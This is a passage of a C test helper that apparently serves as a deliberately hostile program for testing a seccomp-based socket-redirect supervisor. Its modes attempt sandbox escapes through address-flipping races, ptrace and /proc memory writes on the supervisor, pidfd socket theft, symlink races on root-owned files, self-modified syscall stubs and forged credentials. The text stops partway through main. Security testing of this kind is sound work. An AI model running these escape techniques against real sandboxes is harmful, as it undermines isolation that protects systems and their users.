/* A hostile program: each mode tries one way to get a socket past the rules
 * of the redirect it runs under. Bounded in attempts and time (alarm). Prints
 * "key value" lines; the tests count what reaches a receiver outside.
 *
 *   flip CALL TYPE A B N      CALL: connect, bind, sendto, sendmsg, connect-send,
 *                             fastopen, fastopen-msg; TYPE: tcp, udp, tcp6, udp6;
 *                             A and B: addresses a second thread swaps between, as
 *                             unix | inet:PORT | inet6:PORT | unspec:PORT.
 *                             bind keeps what it could reach as a client, prints
 *                             "escaped N" and waits for a line on stdin.
 *   notify PORT               own seccomp filter with a listener that answers CONTINUE
 *   untraced PORT             clone(CLONE_UNTRACED), the child traced by us, connects
 *   v6-to-v4 PORT             an IPv6 UDP socket connected/sending to an IPv4 address
 *   supervisor                open /proc/PPID/mem, process_vm_writev, PTRACE_SEIZE the parent
 *   steal PID FD              pidfd_getfd another process's socket, send "stolen" on it
 *   accept FD                 accept on an inherited listening socket
 *   blackhole-symlink PORT VICTIM   as root: drop to nobody, then swap the supervisor's
 *                             throw-away folder for a symlink to VICTIM while binding
 *   rewind PORT               rewrite the syscall instruction the supervisor re-runs for its
 *                             injected calls into a jump to a native connect
 *   reply-chmod PORT VICTIM N as root: drop to nobody, swap each new reply socket file
 *                             for a symlink to VICTIM while the supervisor sets its mode
 *   packet                    socket(AF_INET, SOCK_PACKET): a packet socket in IP clothes
 *   igmp GROUP [high]         join a multicast group (the kernel sends IGMP reports); high:
 *                             with junk in the upper halves of level and name, which the kernel
 *                             does not read
 *   packet-high               socket(AF_PACKET | 1 << 32, ...): junk in the family's upper half
 *   procmem PID               open /proc/PID/mem of another process for writing
 *   portrange tcp|udp|udp-send PORT [SINK]  make the kernel choose PORT (IP_LOCAL_PORT_RANGE)
 *                             for a listen without bind / a UDP bind to port 0 / the bind a UDP
 *                             send to SINK makes; waits for a line
 *   raw6 PORT N               raw IPv6 UDP datagrams to [::1]:PORT, the family field AF_UNSPEC
 *   bigmmsg PORT              sendmmsg of 1024 messages of 4 MiB each; prints the supervisor's peak memory
 *   pidfds PORT PATH N        receive N datagrams with SO_PASSPIDFD on a socket converted at PORT,
 *                             sent to PATH; prints the supervisor's open fds
 *   replyflip PORT N          shown a sender on PORT, answer it N times from fresh sockets while
 *                             the family flips (waits for a line before the flips)
 *   creds PATH                as nobody: send to PATH, then with forged SCM_CREDENTIALS (uid 0)
 *   reply-symlink PORT SERVER DIR VICTIM N   as root bind UDP PORT (converted to SERVER), drop to
 *                             nobody, send to SERVER from DIR/s, swap DIR/s for a symlink to VICTIM,
 *                             then answer the shown sender N times (sendto), connect, send N times
 *   drop-send PORT N          drop to nobody, then sendto 127.0.0.1:PORT N times (an out rule's)
 *   dirswap PORT DIR VICTIMDIR N  as nobody: bind PORT (its socket file in DIR/d) N times while
 *                             a thread swaps DIR/d with a symlink to VICTIMDIR
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static union {
    struct sockaddr sa;
    struct sockaddr_in in;
    struct sockaddr_in6 in6;
    struct sockaddr_un un;
    char raw[128];
} target, pattern[2];
static socklen_t pattern_len;
static volatile int stop_flipping;

static int parse_address(const char *spec, int which)
{
    memset(&pattern[which], 0, sizeof pattern[which]);
    if (strcmp(spec, "unix") == 0) {
        pattern[which].un.sun_family = AF_UNIX;
        strcpy(pattern[which].un.sun_path, "/nonexistent-redirect-attack");
        return 0;
    }
    const char *colon = strchr(spec, ':');
    if (!colon)
        return -1;
    int port = atoi(colon + 1);
    if (strncmp(spec, "inet6:", 6) == 0) {
        pattern[which].in6.sin6_family = AF_INET6;
        pattern[which].in6.sin6_port = htons(port);
        pattern[which].in6.sin6_addr = in6addr_loopback;
    } else if (strncmp(spec, "inet:", 5) == 0 || strncmp(spec, "unspec:", 7) == 0) {
        pattern[which].in.sin_family = spec[0] == 'u' ? AF_UNSPEC : AF_INET;
        pattern[which].in.sin_port = htons(port);
        pattern[which].in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    } else {
        return -1;
    }
    return 0;
}

static void *flipper(void *arg)
{
    (void)arg;
    for (unsigned long i = 0; !stop_flipping; i++)
        memcpy(&target, &pattern[i & 1], sizeof target);
    return NULL;
}

static int socket_of(const char *type)
{
    int family = strchr(type, '6') ? AF_INET6 : AF_INET;
    int stype = strncmp(type, "udp", 3) == 0 ? SOCK_DGRAM : SOCK_STREAM;
    return socket(family, stype | SOCK_NONBLOCK, 0);
}

static int reachable(int port)
{
    /* Whether a real TCP listener answers on 127.0.0.1:port. */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    close(s);
    return ok;
}

static int flip(int argc, char **argv)
{
    if (argc != 7 || parse_address(argv[4], 0) || parse_address(argv[5], 1)) {
        fprintf(stderr, "usage: flip CALL TYPE A B N\n");
        return 2;
    }
    const char *call = argv[2], *type = argv[3];
    int n = atoi(argv[6]);
    int bind_port = ntohs(pattern[1].in.sin_port);
    pattern_len = sizeof(struct sockaddr_in6);
    memcpy(&target, &pattern[0], sizeof target);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int ok = 0, escaped = 0;
    for (int i = 0; i < n; i++) {
        int s = socket_of(type);
        long r;
        char byte = 'x';
        struct iovec iov = {&byte, 1};
        struct msghdr msg = {.msg_name = &target, .msg_namelen = pattern_len, .msg_iov = &iov, .msg_iovlen = 1};
        if (strcmp(call, "connect") == 0) {
            r = connect(s, &target.sa, pattern_len);
            r = r == 0 || errno == EINPROGRESS ? 0 : -1;
        } else if (strcmp(call, "connect-send") == 0) {
            r = connect(s, &target.sa, pattern_len);
            if (r == 0)
                r = send(s, &byte, 1, 0);
        } else if (strcmp(call, "sendto") == 0) {
            r = sendto(s, &byte, 1, 0, &target.sa, pattern_len);
        } else if (strcmp(call, "sendmsg") == 0) {
            r = sendmsg(s, &msg, 0);
        } else if (strcmp(call, "fastopen") == 0) {
            r = sendto(s, &byte, 1, MSG_FASTOPEN, &target.sa, pattern_len);
            r = r >= 0 || errno == EINPROGRESS ? 0 : -1;
        } else if (strcmp(call, "fastopen-msg") == 0) {
            r = sendmsg(s, &msg, MSG_FASTOPEN);
            r = r >= 0 || errno == EINPROGRESS ? 0 : -1;
        } else if (strcmp(call, "bind") == 0) {
            int one = 1;
            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
            r = bind(s, &target.sa, pattern_len);
            if (r == 0 && strncmp(type, "tcp", 3) == 0)
                r = listen(s, 8);
            if (r == 0 && strncmp(type, "tcp", 3) == 0 && reachable(bind_port)) {
                escaped++;
                continue; /* keep it: the test looks at it from outside */
            }
        } else {
            fprintf(stderr, "unknown call %s\n", call);
            return 2;
        }
        if (r >= 0)
            ok++;
        close(s);
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("attempts %d\nok %d\nescaped %d\n", n, ok, escaped);
    fflush(stdout);
    if (strcmp(call, "bind") == 0) {
        char line[8];
        if (!fgets(line, sizeof line, stdin)) { /* hold the listeners until told */ }
    }
    return 0;
}

static struct sockaddr_in loopback(int port)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

static int connect_to(int port)
{
    struct sockaddr_in a = loopback(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    int err = r == 0 ? 0 : errno;
    close(s);
    return err;
}

static int notify_fd = -1;

static void *answer_continue(void *arg)
{
    (void)arg;
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
        memset(&req, 0, sizeof req);
        if (ioctl(notify_fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
            return NULL;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(notify_fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static int notify(int port)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    notify_fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    printf("seccomp %d\n", notify_fd < 0 ? -errno : 0);
    if (notify_fd >= 0) {
        pthread_t t;
        pthread_create(&t, NULL, answer_continue, NULL);
    }
    printf("connect %d\n", -connect_to(port));
    return 0;
}

static int untraced(int port)
{
    long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
    if (pid < 0) {
        printf("clone %d\n", -errno);
        return 0;
    }
    if (pid == 0) {
        raise(SIGSTOP);
        _exit(connect_to(port) == 0 ? 0 : 1);
    }
    int status;
    waitpid(pid, &status, WUNTRACED);
    long seized = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
    printf("clone 0\nseize %d\n", seized < 0 ? -errno : 0);
    kill(pid, SIGCONT);
    for (;;) {
        if (waitpid(pid, &status, 0) < 0 || WIFEXITED(status) || WIFSIGNALED(status))
            break;
        int sig = WSTOPSIG(status);
        ptrace(PTRACE_CONT, pid, 0, (sig == SIGTRAP || sig == SIGSTOP || sig == SIGCONT) ? 0 : sig);
    }
    printf("child-connected %d\n", WIFEXITED(status) && WEXITSTATUS(status) == 0);
    return 0;
}

static int v6_to_v4(int port)
{
    struct sockaddr_in a = loopback(port);
    int s = socket(AF_INET6, SOCK_DGRAM, 0);
    int r = sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
    printf("sendto %d\n", r < 0 ? -errno : r);
    close(s);
    s = socket(AF_INET6, SOCK_DGRAM, 0);
    r = connect(s, (struct sockaddr *)&a, sizeof a);
    printf("connect %d\n", r < 0 ? -errno : r);
    r = send(s, "y", 1, 0);
    printf("send %d\n", r < 0 ? -errno : r);
    close(s);
    return 0;
}

static int supervisor(void)
{
    pid_t parent = getppid();
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", parent);
    int fd = open(path, O_RDWR);
    printf("mem %d\n", fd < 0 ? -errno : 0);
    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    long r = process_vm_writev(parent, &local, 1, &remote, 1, 0);
    printf("vm-write %d\n", r < 0 ? -errno : 0);
    r = ptrace(PTRACE_SEIZE, parent, 0, 0);
    printf("seize %d\n", r < 0 ? -errno : 0);
    if (r == 0)
        ptrace(PTRACE_DETACH, parent, 0, 0);
    return 0;
}

static int steal(int pid, int fd)
{
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    int got = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    printf("getfd %d\n", got < 0 ? -errno : 0);
    if (got >= 0)
        printf("send %ld\n", (long)send(got, "stolen\n", 7, 0));
    return 0;
}

static int accept_on(int fd)
{
    int c = accept(fd, NULL, NULL);
    printf("accept %d\n", c < 0 ? -errno : 0);
    if (c >= 0)
        send(c, "accepted\n", 9, 0);
    return 0;
}

static int bh_port;
static const char *victim;
static volatile int swapped;

static void *swap_folders(void *arg)
{
    (void)arg;
    uid_t me = geteuid();
    while (!stop_flipping) {
        DIR *tmp = opendir("/tmp");
        struct dirent *e;
        while (tmp && (e = readdir(tmp))) {
            char path[512], moved[600];
            struct stat st;
            if (strncmp(e->d_name, "redirect-", 9) != 0)
                continue;
            snprintf(path, sizeof path, "/tmp/%s", e->d_name);
            if (lstat(path, &st) || !S_ISDIR(st.st_mode) || st.st_uid != me)
                continue;
            snprintf(moved, sizeof moved, "/tmp/moved-%s", e->d_name);
            if (rename(path, moved) == 0 && symlink(victim, path) == 0)
                swapped++;
        }
        if (tmp)
            closedir(tmp);
    }
    return NULL;
}

static int blackhole_symlink(void)
{
    if (setgid(65534) || setuid(65534)) {
        printf("setuid %d\n", -errno);
        return 1;
    }
    pthread_t t;
    pthread_create(&t, NULL, swap_folders, NULL);
    struct sockaddr_in a = loopback(bh_port);
    int first = socket(AF_INET, SOCK_STREAM, 0);
    int r = bind(first, (struct sockaddr *)&a, sizeof a);
    int failed = 0;
    struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(bh_port), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    for (int i = 0; i < 200 && r == 0; i++) {
        int s = socket(AF_INET6, SOCK_STREAM, 0); /* the IPv6 twin: the same path, blackholed */
        int one = 1;
        setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
        if (bind(s, (struct sockaddr *)&a6, sizeof a6) < 0)
            failed++;
        close(s);
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("first %d\nswapped %d\nfailed %d\n", r, swapped, failed);
    return 0;
}

/* ---- rewind: the supervisor runs its second and later injected calls by
 * stepping back onto the program's own syscall instruction ---- */
static unsigned char *code;
static int victim_sock, pair[2];
static struct sockaddr_in rewind_target;

static void *blocked_sender(void *arg)
{
    (void)arg;
    char byte = 'x';
    struct iovec iov = {&byte, 1};
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
    long (*tramp)(long, long, long, long) = (void *)code;
    long r = tramp(SYS_sendmsg, pair[0], (long)&msg, 0); /* waits: the receiver is full */
    printf("sendmsg %ld\n", r);
    return NULL;
}

static int rewind_attack(int port)
{
    code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    /* tramp(nr, a, b, c): rax=nr rdi=a rsi=b rdx=c; syscall at offset 12; ret */
    static const unsigned char tramp[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                          0x0f, 0x05, 0xc3};
    memcpy(code, tramp, sizeof tramp);
    rewind_target = loopback(port);
    victim_sock = socket(AF_INET, SOCK_STREAM, 0);
    /* the stub at 64: connect(victim_sock, &rewind_target, 16); ret */
    unsigned char *p = code + 64;
    *p++ = 0xb8; *(int *)p = SYS_connect; p += 4;
    *p++ = 0xbf; *(int *)p = victim_sock; p += 4;
    *p++ = 0x48; *p++ = 0xbe; *(long *)p = (long)&rewind_target; p += 8;
    *p++ = 0xba; *(int *)p = 16; p += 4;
    *p++ = 0x0f; *p++ = 0x05; *p++ = 0xc3;
    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
    while (send(pair[0], "f", 1, MSG_DONTWAIT) == 1) { /* fill the receiver */ }
    pthread_t t;
    pthread_create(&t, NULL, blocked_sender, NULL);
    usleep(100000);
    code[12] = 0xeb; /* jmp rel8 from offset 14 to 64 */
    code[13] = 64 - 14;
    usleep(200000);
    char sink[8];
    while (recv(pair[1], sink, sizeof sink, MSG_DONTWAIT) > 0) { /* let the sender go */ }
    pthread_join(t, NULL);
    printf("sent %ld\n", (long)send(victim_sock, "escaped", 7, MSG_NOSIGNAL));
    return 0;
}

/* ---- reply-chmod: a root supervisor sets the mode of a datagram client's
 * reply socket file, in a folder the program owns ---- */
static char reply_dir[256];
static int reply_next, reply_count;

static void *swap_replies(void *arg)
{
    (void)arg;
    for (int k = reply_next; k < reply_next + reply_count && !stop_flipping; k++) {
        char path[300], tmp[300];
        struct stat st;
        snprintf(path, sizeof path, "%s/c%d", reply_dir, k);
        snprintf(tmp, sizeof tmp, "%s/t%d", reply_dir, k);
        while (!stop_flipping && lstat(path, &st) != 0) { /* wait for the bind */ }
        symlink(victim, tmp);
        if (rename(tmp, path) == 0)
            swapped++;
    }
    return NULL;
}

static int reply_chmod(int port, int n)
{
    if (setgid(65534) || setuid(65534)) {
        printf("setuid %d\n", -errno);
        return 1;
    }
    struct sockaddr_in a = loopback(port);
    int first = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(first, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
    FILE *table = fopen("/proc/net/unix", "r");
    char line[512];
    while (table && fgets(line, sizeof line, table)) {
        char *at = strstr(line, "/redirect-");
        char *c = at ? strrchr(at, '/') : NULL;
        if (c && c[1] == 'c') {
            *c = 0;
            snprintf(reply_dir, sizeof reply_dir, "%s", strchr(line, '/'));
            reply_next = atoi(c + 2) + 1;
        }
    }
    if (table)
        fclose(table);
    printf("folder %d\n", reply_dir[0] ? 0 : -1);
    reply_count = n;
    pthread_t t;
    pthread_create(&t, NULL, swap_replies, NULL);
    for (int i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
        close(s);
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("swapped %d\n", swapped);
    return 0;
}

static int packet(void)
{
    int s = socket(AF_INET, SOCK_PACKET, htons(0x0003));
    printf("socket %d\n", s < 0 ? -errno : 0);
    return 0;
}

static int packet_high(void)
{
    long s = syscall(SYS_socket, (long)AF_PACKET | (1L << 32), (long)SOCK_RAW, (long)htons(0x0003));
    printf("socket %d\n", s < 0 ? -errno : 0);
    return 0;
}

static int igmp(const char *group, int high)
{
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ip_mreqn m = {.imr_ifindex = 1};
    m.imr_multiaddr.s_addr = inet_addr(group);
    long junk = high ? 1L << 32 : 0;
    long r = syscall(SYS_setsockopt, (long)s, IPPROTO_IP | junk, IP_ADD_MEMBERSHIP | junk, &m, (long)sizeof m);
    printf("join %d\n", r < 0 ? -errno : 0);
    usleep(300000); /* the kernel sends its reports meanwhile */
    return 0;
}

#ifndef IP_LOCAL_PORT_RANGE
#define IP_LOCAL_PORT_RANGE 51
#endif
#ifndef SO_PASSPIDFD
#define SO_PASSPIDFD 76
#endif

static void wait_line(void)
{
    char line[16];
    if (!fgets(line, sizeof line, stdin)) { /* stdin closed: go on */ }
}

static int portrange(const char *type, int port, int sink)
{
    int udp = strncmp(type, "udp", 3) == 0;
    int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
    unsigned int range = ((unsigned int)port << 16) | port;
    int r = setsockopt(s, IPPROTO_IP, IP_LOCAL_PORT_RANGE, &range, sizeof range);
    printf("range %d\n", r < 0 ? -errno : 0);
    if (strcmp(type, "udp-send") == 0) { /* the kernel binds at the send */
        struct sockaddr_in to = loopback(sink);
        r = sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
    } else if (udp) {
        struct sockaddr_in a = {.sin_family = AF_INET};
        r = bind(s, (struct sockaddr *)&a, sizeof a);
    } else {
        r = listen(s, 8);
    }
    printf("ready %d\n", r < 0 ? -errno : 0);
    wait_line();
    return 0;
}

static int raw6(int port, int n)
{
    int s = socket(AF_INET6, SOCK_RAW, IPPROTO_UDP);
    int offset = 6;
    setsockopt(s, IPPROTO_IPV6, IPV6_CHECKSUM, &offset, sizeof offset);
    unsigned char packet[12] = {0x04, 0xd2, port >> 8, port & 0xff, 0, 12, 0, 0, 'r', 'a', 'w', '6'};
    struct sockaddr_in6 a = {.sin6_family = AF_UNSPEC, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    int ok = 0;
    for (int i = 0; i < n; i++)
        ok += sendto(s, packet, sizeof packet, 0, (struct sockaddr *)&a, sizeof a) == sizeof packet;
    printf("socket %d\nsent %d\n", s < 0 ? -1 : 0, ok);
    return 0;
}

static long peak_kb(pid_t pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    long kb = -1;
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "VmHWM:", 6) == 0)
            kb = atol(line + 6);
    if (f)
        fclose(f);
    return kb;
}

static int bigmmsg(int port)
{
    size_t size = 4 << 20;
    char *buf = malloc(size);
    memset(buf, 'x', size);
    static struct mmsghdr msgs[1024];
    struct iovec iov = {buf, size};
    struct sockaddr_in a = loopback(port);
    for (int i = 0; i < 1024; i++) {
        msgs[i].msg_hdr.msg_iov = &iov;
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = &a;
        msgs[i].msg_hdr.msg_namelen = sizeof a;
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    int r = sendmmsg(s, msgs, 1024, MSG_DONTWAIT);
    printf("sendmmsg %d\nsupervisor-peak-kb %ld\n", r < 0 ? -errno : r, peak_kb(getppid()));
    return 0;
}

static int count_fds(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    int n = 0;
    while (d && readdir(d))
        n++;
    if (d)
        closedir(d);
    return d ? n - 2 : -1;
}

static int pidfds(int port, const char *path, int n)
{
    struct sockaddr_in a = loopback(port);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    bind(s, (struct sockaddr *)&a, sizeof a);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_PASSPIDFD, &one, sizeof one);
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    int c = socket(AF_UNIX, SOCK_DGRAM, 0);
    int before = count_fds(getppid()), got = 0;
    for (int i = 0; i < n; i++) {
        sendto(c, "p", 1, 0, (struct sockaddr *)&to, sizeof to);
        char byte, control[64];
        struct sockaddr_in from;
        struct iovec iov = {&byte, 1};
        struct msghdr msg = {.msg_name = &from, .msg_namelen = sizeof from, .msg_iov = &iov, .msg_iovlen = 1,
                             .msg_control = control, .msg_controllen = sizeof control};
        got += recvmsg(s, &msg, 0) == 1;
    }
    printf("received %d\nfds-before %d\nfds-after %d\n", got, before, count_fds(getppid()));
    return 0;
}

static int replyflip(int port, int n)
{
    struct sockaddr_in a = loopback(port), from;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    bind(s, (struct sockaddr *)&a, sizeof a);
    printf("ready 0\n");
    char byte;
    socklen_t len = sizeof from;
    recvfrom(s, &byte, 1, 0, (struct sockaddr *)&from, &len);
    printf("shown %d\n", ntohs(from.sin_port));
    wait_line();
    memset(&pattern[0], 0, sizeof pattern[0]);
    pattern[0].un.sun_family = AF_UNIX;
    strcpy(pattern[0].un.sun_path, "/nonexistent-redirect-attack");
    memcpy(&pattern[1], &from, sizeof from);
    memcpy(&target, &pattern[1], sizeof target);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int ok = 0;
    for (int i = 0; i < n; i++) {
        int f = socket(AF_INET, SOCK_DGRAM, 0);
        ok += sendto(f, "r", 1, 0, &target.sa, sizeof(struct sockaddr_in)) == 1;
        close(f);
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("ok %d\n", ok);
    return 0;
}

static int creds(const char *path)
{
    if (setgid(65534) || setuid(65534)) {
        printf("setuid %d\n", -errno);
        return 1;
    }
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    int r = sendto(s, "plain", 5, 0, (struct sockaddr *)&to, sizeof to);
    printf("plain %d\n", r < 0 ? -errno : r);
    union {
        struct cmsghdr h;
        char space[CMSG_SPACE(sizeof(struct ucred))];
    } control;
    struct ucred forged = {.pid = getppid(), .uid = 0, .gid = 0};
    char data[] = "forged";
    struct iovec iov = {data, 6};
    struct msghdr msg = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1,
                         .msg_control = &control, .msg_controllen = sizeof control};
    control.h.cmsg_len = CMSG_LEN(sizeof forged);
    control.h.cmsg_level = SOL_SOCKET;
    control.h.cmsg_type = SCM_CREDENTIALS;
    memcpy(CMSG_DATA(&control.h), &forged, sizeof forged);
    r = sendmsg(s, &msg, 0);
    printf("forged %d\n", r < 0 ? -errno : r);
    return 0;
}

static void drop_to_nobody(void)
{
    if (setgroups(0, NULL) || setgid(65534) || setuid(65534)) {
        perror("drop");
        exit(1);
    }
}

static int reply_symlink(int port, const char *server, const char *dir, const char *victim, int n)
{
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = loopback(port);
    if (bind(u, (struct sockaddr *)&a, sizeof a)) {
        perror("bind");
        return 1;
    }
    drop_to_nobody();
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    struct sockaddr_un me = {.sun_family = AF_UNIX}, srv = {.sun_family = AF_UNIX};
    snprintf(me.sun_path, sizeof me.sun_path, "%s/s", dir);
    snprintf(srv.sun_path, sizeof srv.sun_path, "%s", server);
    unlink(me.sun_path);
    if (bind(s, (struct sockaddr *)&me, sizeof me) || sendto(s, "x", 1, 0, (struct sockaddr *)&srv, sizeof srv) != 1) {
        perror("sender");
        return 1;
    }
    close(s);
    unlink(me.sun_path);
    if (symlink(victim, me.sun_path)) {
        perror("symlink");
        return 1;
    }
    char buf[16];
    struct sockaddr_in from;
    socklen_t len = sizeof from;
    if (recvfrom(u, buf, sizeof buf, 0, (struct sockaddr *)&from, &len) < 0) {
        perror("recvfrom");
        return 1;
    }
    int sent = 0, connected;
    for (int i = 0; i < n; i++)
        sent += sendto(u, "answer", 6, 0, (struct sockaddr *)&from, len) > 0;
    connected = connect(u, (struct sockaddr *)&from, len) == 0;
    for (int i = 0; connected && i < n; i++)
        sent += send(u, "answer", 6, 0) > 0;
    printf("sent %d\nconnected %d\n", sent, connected);
    unlink(me.sun_path);
    return 0;
}

static int drop_send(int port, int n)
{
    drop_to_nobody();
    int u = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
    struct sockaddr_in a = loopback(port);
    for (int i = 0; i < n; i++)
        sent += sendto(u, "rule", 4, 0, (struct sockaddr *)&a, sizeof a) > 0;
    printf("sent %d\n", sent);
    return 0;
}

static char swap_dir[200], swap_link[200];
static volatile int swapping;

static void *swapper(void *arg)
{
    (void)arg;
    while (swapping)
        syscall(SYS_renameat2, AT_FDCWD, swap_dir, AT_FDCWD, swap_link, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

static int dirswap(int port, const char *dir, const char *victim_dir, int n)
{
    drop_to_nobody();
    snprintf(swap_dir, sizeof swap_dir, "%s/d", dir);
    snprintf(swap_link, sizeof swap_link, "%s/L", dir);
    mkdir(swap_dir, 0755);
    if (symlink(victim_dir, swap_link)) {
        perror("symlink");
        return 1;
    }
    swapping = 1;
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    struct sockaddr_in a = loopback(port);
    int bound = 0;
    for (int i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        bound += bind(s, (struct sockaddr *)&a, sizeof a) == 0;
        close(s);
    }
    swapping = 0;
    pthread_join(t, NULL);
    struct stat st;
    if (lstat(swap_dir, &st) == 0 && S_ISLNK(st.st_mode)) /* the directory back in its place */
        syscall(SYS_renameat2, AT_FDCWD, swap_dir, AT_FDCWD, swap_link, 2);
    int s = socket(AF_INET, SOCK_STREAM, 0); /* a last bind: the reap of the others runs first */
    bind(s, (struct sockaddr *)&a, sizeof a);
    close(s);
    usleep(1500000); /* and the supervisor's 1 s timer */
    printf("bound %d\n", bound);
    return 0;
}

int main(int argc, char **argv)
{
    alarm(60); /* bounded, whatever happens */
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2)
        goto usage;
    if (strcmp(argv[1], "flip") == 0)
        return flip(argc, argv);
    if (strcmp(argv[1], "notify") == 0 && argc == 3)
        return notify(atoi(argv[2]));
    if (strcmp(argv[1], "untraced") == 0 && argc == 3)
        return untraced(atoi(argv[2]));
    if (strcmp(argv[1], "v6-to-v4") == 0 && argc == 3)
        return v6_to_v4(atoi(argv[2]));
    if (strcmp(argv[1], "supervisor") == 0)
        return supervisor();
    if (strcmp(argv[1], "steal") == 0 && argc == 4)
        return steal(atoi(argv[2]), atoi(argv[3]));
    if (strcmp(argv[1], "accept") == 0 && argc == 3)
        return accept_on(atoi(argv[2]));
    if (strcmp(argv[1], "blackhole-symlink") == 0 && argc == 4) {
        bh_port = atoi(argv[2]);
        victim = argv[3];
        return blackhole_symlink();
    }
    if (strcmp(argv[1], "rewind") == 0 && argc == 3)
        return rewind_attack(atoi(argv[2]));
    if (strcmp(argv[1], "reply-chmod") == 0 && argc == 5) {
        victim = argv[3];
        return reply_chmod(atoi(argv[2]), atoi(argv[4]));
    }
    if (strcmp(argv[1], "packet") == 0)
        return packet();
    if (strcmp(argv[1], "igmp") == 0 && (argc == 3 || argc == 4))
        return igmp(argv[2], argc == 4 && strcmp(argv[3], "high") == 0);
    if (strcmp(argv[1], "packet-high") == 0)
        return packet_high();
